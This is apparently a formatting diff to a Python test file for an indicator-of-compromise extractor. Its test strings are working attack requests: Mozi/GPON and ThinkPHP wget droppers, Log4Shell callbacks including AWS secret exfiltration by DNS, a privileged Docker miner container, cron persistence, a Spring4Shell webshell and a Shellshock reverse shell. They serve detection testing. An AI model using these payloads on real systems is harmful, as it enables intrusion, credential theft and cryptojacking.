@@ -18,10 +18,12 @@ def _http(raw: str | bytes) -> set[tuple[str, str, str]]:
 
 
 def test_mirai_gpon_dropper() -> None:
-    found = _http("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 203.0.113.10:8080\r\n"
-                  "User-Agent: Hello, World\r\nContent-Type: text/plain\r\n\r\n"
-                  "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+"
-                  "http://198.51.100.7:8088/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80`&ipv=0")
+    found = _http(
+        "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 203.0.113.10:8080\r\n"
+        "User-Agent: Hello, World\r\nContent-Type: text/plain\r\n\r\n"
+        "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+"
+        "http://198.51.100.7:8088/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80`&ipv=0"
+    )
     assert ("url", "http://198.51.100.7:8088/Mozi.m", "download") in found
     assert ("ip", "198.51.100.7", "download") in found
     assert ("port", "8088", "download") in found
@@ -29,8 +31,14 @@ def test_mirai_gpon_dropper() -> None:
 
 
 def test_jaws_shell_dropper_without_scheme_and_tftp() -> None:
-    found = _set(extract_iocs([b"cd /tmp; wget 198.51.100.9/bins/x86 -O x; tftp -g -r mips 198.51.100.10; "
-                               b"ftpget -v -u anonymous -p anonymous -P 21 bad-host.xyz m m"]))
+    found = _set(
+        extract_iocs(
+            [
+                b"cd /tmp; wget 198.51.100.9/bins/x86 -O x; tftp -g -r mips 198.51.100.10; "
+                b"ftpget -v -u anonymous -p anonymous -P 21 bad-host.xyz m m"
+            ]
+        )
+    )
     assert ("url", "http://198.51.100.9/bins/x86", "download") in found
     assert ("ip", "198.51.100.10", "download") in found
     assert ("domain", "bad-host.xyz", "download") in found
@@ -38,67 +46,90 @@ def test_jaws_shell_dropper_without_scheme_and_tftp() -> None:
 
 def test_log4shell_callback_obfuscated_and_base64_command() -> None:
     command = base64.b64encode(b"wget http://198.51.100.20/lh.sh -O- | sh").decode()
-    found = _http("GET / HTTP/1.1\r\nHost: victim.example\r\n"
-                  "User-Agent: ${${lower:j}ndi:${lower:l}dap://198.51.100.7:1389/TomcatBypass/Command/Base64/"
-                  f"{command}}}\r\n\r\n")
+    found = _http(
+        "GET / HTTP/1.1\r\nHost: victim.example\r\n"
+        "User-Agent: ${${lower:j}ndi:${lower:l}dap://198.51.100.7:1389/TomcatBypass/Command/Base64/"
+        f"{command}}}\r\n\r\n"
+    )
     assert ("ip", "198.51.100.7", "callback") in found
     assert ("port", "1389", "callback") in found
-    assert any(kind == "url" and role == "callback" and value.startswith("ldap://198.51.100.7:1389/")
-               for kind, value, role in found)
+    assert any(
+        kind == "url" and role == "callback" and value.startswith("ldap://198.51.100.7:1389/")
+        for kind, value, role in found
+    )
     assert ("url", "http://198.51.100.20/lh.sh", "download") in found
 
 
 def test_log4shell_exfil_through_dns_name() -> None:
-    found = _http("GET /?x=${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.leak.attacker.example/a} HTTP/1.1\r\n"
-                  "Host: 203.0.113.10\r\n\r\n")
+    found = _http(
+        "GET /?x=${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.leak.attacker.example/a} HTTP/1.1\r\n"
+        "Host: 203.0.113.10\r\n\r\n"
+    )
     assert ("domain", "leak.attacker.example", "exfil") in found
 
 
 def test_docker_api_create_with_miner_image_and_command() -> None:
-    body = ('{"Image":"pocosow/xmrig:latest","Cmd":["sh","-c","curl -s http://198.51.100.30/init.sh | sh; '
-            './xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft'
-            '3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1"],'
-            '"HostConfig":{"Binds":["/:/host"],"Privileged":true}}')
-    found = _http(f"POST /v1.24/containers/create HTTP/1.1\r\nHost: 203.0.113.10:2375\r\n"
-                  f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n{body}")
+    body = (
+        '{"Image":"pocosow/xmrig:latest","Cmd":["sh","-c","curl -s http://198.51.100.30/init.sh | sh; '
+        "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft"
+        '3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1"],'
+        '"HostConfig":{"Binds":["/:/host"],"Privileged":true}}'
+    )
+    found = _http(
+        f"POST /v1.24/containers/create HTTP/1.1\r\nHost: 203.0.113.10:2375\r\n"
+        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n{body}"
+    )
     assert ("container-image", "pocosow/xmrig:latest", "download") in found
     assert ("url", "http://198.51.100.30/init.sh", "download") in found
     assert ("domain", "pool.supportxmr.com", "miner-pool") in found
     assert ("port", "3333", "miner-pool") in found
-    assert ("wallet", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
-            "miner-pool") in found
+    assert (
+        "wallet",
+        "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
+        "miner-pool",
+    ) in found
 
 
 def test_docker_api_json_escaped_cron_command() -> None:
-    body = ('{"Cmd":["chroot","/mnt/","/bin/sh","-c","echo \\"* * * * * root curl http://198.51.100.40/b2f628/cronb.sh'
-            '|bash\\"\\u003e/etc/cron.d/zzh"],"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}')
+    body = (
+        '{"Cmd":["chroot","/mnt/","/bin/sh","-c","echo \\"* * * * * root curl http://198.51.100.40/b2f628/cronb.sh'
+        '|bash\\"\\u003e/etc/cron.d/zzh"],"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}'
+    )
     found = _http(f"POST /v1.24/containers/create HTTP/1.1\r\nHost: 203.0.113.10:2375\r\n\r\n{body}")
     assert ("url", "http://198.51.100.40/b2f628/cronb.sh", "download") in found
 
 
 def test_thinkphp_invokefunction_dropper() -> None:
-    found = _http("GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"
-                  "&vars[1][]=cd%20/tmp;wget%20http://198.51.100.50/x86;chmod%20777%20x86;./x86%20thinkphp HTTP/1.1\r\n"
-                  "Host: 203.0.113.10\r\n\r\n")
+    found = _http(
+        "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"
+        "&vars[1][]=cd%20/tmp;wget%20http://198.51.100.50/x86;chmod%20777%20x86;./x86%20thinkphp HTTP/1.1\r\n"
+        "Host: 203.0.113.10\r\n\r\n"
+    )
     assert ("url", "http://198.51.100.50/x86", "download") in found
 
 
 def test_phpunit_eval_stdin_with_hex_encoded_command() -> None:
-    found = _http("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n"
-                  "<?php system(\"\\x77\\x67\\x65\\x74\\x20http://198.51.100.60/p.sh\"); ?>")
+    found = _http(
+        "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n"
+        '<?php system("\\x77\\x67\\x65\\x74\\x20http://198.51.100.60/p.sh"); ?>'
+    )
     assert ("url", "http://198.51.100.60/p.sh", "download") in found
 
 
 def test_spring4shell_and_shellshock_reverse_shell() -> None:
-    spring = _http("POST /helloworld/greeting HTTP/1.1\r\nHost: 203.0.113.10\r\n"
-                   "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
-                   "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j"
-                   "%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di"
-                   ".getRuntime().exec(%22curl%20http%3A%2F%2F198.51.100.70%2Fs.sh%22)%3B%7D"
-                   "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp")
+    spring = _http(
+        "POST /helloworld/greeting HTTP/1.1\r\nHost: 203.0.113.10\r\n"
+        "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
+        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j"
+        "%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di"
+        ".getRuntime().exec(%22curl%20http%3A%2F%2F198.51.100.70%2Fs.sh%22)%3B%7D"
+        "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
+    )
     assert ("url", "http://198.51.100.70/s.sh", "download") in spring
-    shellshock = _http("GET /cgi-bin/status HTTP/1.1\r\nHost: 203.0.113.10\r\n"
-                       "Referer: () { :; }; /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.80/4444 0>&1'\r\n\r\n")
+    shellshock = _http(
+        "GET /cgi-bin/status HTTP/1.1\r\nHost: 203.0.113.10\r\n"
+        "Referer: () { :; }; /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.80/4444 0>&1'\r\n\r\n"
+    )
     assert ("ip", "198.51.100.80", "c2") in shellshock and ("port", "4444", "c2") in shellshock
 
 
@@ -119,8 +150,13 @@ def test_ssh_command_obfuscated_dropper() -> None:
 
 
 def test_ordinary_requests_reveal_nothing() -> None:
-    assert _http("GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; "
-                 "+http://www.google.com/bot.html)\r\nReferer: https://www.example.org/\r\n\r\n") == set()
+    assert (
+        _http(
+            "GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; "
+            "+http://www.google.com/bot.html)\r\nReferer: https://www.example.org/\r\n\r\n"
+        )
+        == set()
+    )
     assert _http("GET /robots.txt HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n") == set()
     assert _http("POST /login HTTP/1.1\r\nHost: shop.example\r\n\r\nuser=ada&password=hunter2") == set()
 
@@ -143,15 +179,20 @@ def test_nested_encodings_are_bounded() -> None:
     for _ in range(10):  # deeper than extraction follows: must stop, not hang
         payload = b"echo " + base64.b64encode(payload) + b" | base64 -d | sh"
     assert isinstance(extract_iocs([payload]), list)
-    shallow = b"echo " + base64.b64encode(b"echo " + base64.b64encode(b"wget http://198.51.100.98/x") +
-                                          b" | base64 -d | sh") + b" | base64 -d | sh"
+    shallow = (
+        b"echo "
+        + base64.b64encode(b"echo " + base64.b64encode(b"wget http://198.51.100.98/x") + b" | base64 -d | sh")
+        + b" | base64 -d | sh"
+    )
     assert ("url", "http://198.51.100.98/x", "download") in _set(extract_iocs([shallow]))
 
 
 def test_plus_is_a_space_in_a_form_body_even_without_a_field_name() -> None:
     # the real GPON body as Mozi sends it: no 'name=' before the command, '+' for every space
-    found = _http("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 203.0.113.10:8080\r\n\r\n"
-                  "busybox+wget+http://198.51.100.7/Mozi.m+-O+/tmp/m")
+    found = _http(
+        "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 203.0.113.10:8080\r\n\r\n"
+        "busybox+wget+http://198.51.100.7/Mozi.m+-O+/tmp/m"
+    )
     assert ("url", "http://198.51.100.7/Mozi.m", "download") in found
     assert not any("+" in value for _, value, _ in found)
     text = _set(extract_iocs([b"busybox+wget+http://198.51.100.7/Mozi.m+-O+/tmp/m"]))
@@ -159,8 +200,10 @@ def test_plus_is_a_space_in_a_form_body_even_without_a_field_name() -> None:
 
 
 def test_plus_is_a_space_in_a_query_string() -> None:
-    found = _http("GET /cgi-bin/x.cgi?cmd=cd+/tmp;busybox+wget+http://198.51.100.7/Mozi.a+-O+m HTTP/1.1\r\n"
-                  "Host: 203.0.113.10\r\n\r\n")
+    found = _http(
+        "GET /cgi-bin/x.cgi?cmd=cd+/tmp;busybox+wget+http://198.51.100.7/Mozi.a+-O+m HTTP/1.1\r\n"
+        "Host: 203.0.113.10\r\n\r\n"
+    )
     assert ("url", "http://198.51.100.7/Mozi.a", "download") in found
 
 
@@ -181,8 +224,10 @@ def test_mozi_wget_with_tftp_flags_and_busybox_tftp() -> None:
 
 
 def test_social_warfare_swp_url_is_a_download() -> None:
-    found = _http("GET /wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://198.51.100.7/payload.txt "
-                  "HTTP/1.1\r\nHost: blog.example.com\r\n\r\n")
+    found = _http(
+        "GET /wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://198.51.100.7/payload.txt "
+        "HTTP/1.1\r\nHost: blog.example.com\r\n\r\n"
+    )
     assert ("url", "http://198.51.100.7/payload.txt", "download") in found
     assert ("ip", "198.51.100.7", "download") in found
 
